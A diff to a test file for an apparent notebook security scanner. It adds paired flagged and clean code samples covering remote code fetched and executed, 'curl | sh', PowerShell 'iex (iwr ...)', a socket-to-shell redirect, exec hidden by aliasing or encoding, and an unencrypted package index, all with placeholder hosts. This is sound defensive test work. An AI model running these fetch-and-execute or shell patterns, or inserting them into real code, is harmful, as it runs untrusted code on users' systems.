@@ -107,6 +107,33 @@ PAIRS = {
                                   [code("import pandas as pd", "pd.read_csv('https://a.example/x')")]),
     "code of a model": ("013", [code("M.from_pretrained('a/b', trust_remote_code=True)")],
                         [code("M.from_pretrained('a/b', trust_remote_code=False)")]),
+    "exec of a download by __import__": ("011", [code("exec(__import__('urllib.request').request.urlopen('https://a').read())")],
+                                         [code("print(__import__('urllib.request').request.urlopen('https://a').read())")]),
+    "exec of what a session fetched": ("011", [code("import requests as r", "s = r.Session()"), code("exec(s.get('https://a').text)")],
+                                       [code("import requests as r", "s = r.Session()", "s = {}"), code("exec(s.get('a'))")]),
+    "exec by another name": ("011", [code("import requests", "e = exec", "e(requests.get('https://a').text)")],
+                             [code("import requests", "e = print", "e(requests.get('https://a').text)")]),
+    "exec by getattr": ("011", [code("import requests, builtins", "getattr(builtins, 'ex' + 'ec')(requests.get('https://a').text)")],
+                        [code("import requests, builtins", "getattr(builtins, 'print')(requests.get('https://a').text)")]),
+    "a downloaded script": ("011", [code("import runpy, urllib.request as u", "u.urlretrieve('https://a/b.py', 'b.py')"), code("runpy.run_path('b.py')")],
+                            [code("import runpy", "runpy.run_path('b.py')")]),
+    "%run of a download": ("011", [code("!wget https://a.example/b.py"), code("%run b.py")], [code("!wget https://a.example/b.py"), code("%run mine.py")]),
+    "an import of a download": ("011", [code("!wget https://a.example/b.py", "import b")], [code("!wget https://a.example/b.py", "import c")]),
+    "a downloaded script, a cell later": ("010", [code("!wget https://a.example/b.py"), code("!python b.py")],
+                                          [code("!wget https://a.example/b.py"), code("!python mine_b.py")]),
+    "a one-liner that fetches and runs": ("010", [code('!python -c "import urllib.request as u; exec(u.urlopen(\'https://a\').read())"')],
+                                          [code('!python -c "import urllib.request as u; print(u.urlopen(\'https://a\').read())"')]),
+    "PowerShell that runs what it gets": ("010", [code('!pwsh -c "iex (iwr https://a)"')], [code('!pwsh -c "iwr https://a -o b.csv"')]),
+    "a process in place of this one": ("010", [code("import os", "os.execvp('sh', ['sh', '-c', 'curl a.example | sh'])")],
+                                       [code("import os", "os.execvp('sh', ['sh', '-c', 'ls | sort'])")]),
+    "a shell for a socket": ("010", [code("import socket, os", "s = socket.socket()", "os.dup2(s.fileno(), 0)")],
+                             [code("import os", "f = open('log')", "os.dup2(f.fileno(), 1)")]),
+    "encoded code": ("015", [code("import base64", "exec(base64.b64decode('cHJpbnQoMSk='))")],
+                     [code("import base64", "print(base64.b64decode('cHJpbnQoMSk='))")]),
+    "packed code": ("015", [code("import zlib", "eval(compile(zlib.decompress(b'x'), 'a', 'exec'))")],
+                    [code("eval(compile('1 + 1', 'a', 'exec'))")]),
+    "an index without encryption": ("031", [code("%pip install --extra-index-url http://a.example x==1")],
+                                    [code("%pip install --index-url https://a.example x==1")]),
     "a command put together": ("014", [code("import os", "os.system(command)")], [code("import os", "os.getcwd()")]),
     "a bidirectional control": ("020", [code(f"ok = 'user{RLO}' # admin")], [prose(f"עברית {RLO}")]),
     "a tag character": ("020", [prose("hello \U000e0041\U000e0042")],
@@ -192,7 +219,7 @@ def test_every_notebook_of_a_folder_has_a_check_of_its_own(tmp_path):
     assert result.verdict == "FAIL"
     (found,) = result.document["findings"]
     assert found["location"]["member"] == "deep/bad.ipynb"
-    assert found["message"].startswith("Cell 1, line 1: ")
+    assert found["message"].startswith("deep/bad.ipynb, cell 1, line 1: ")
 
 
 @pytest.mark.parametrize(
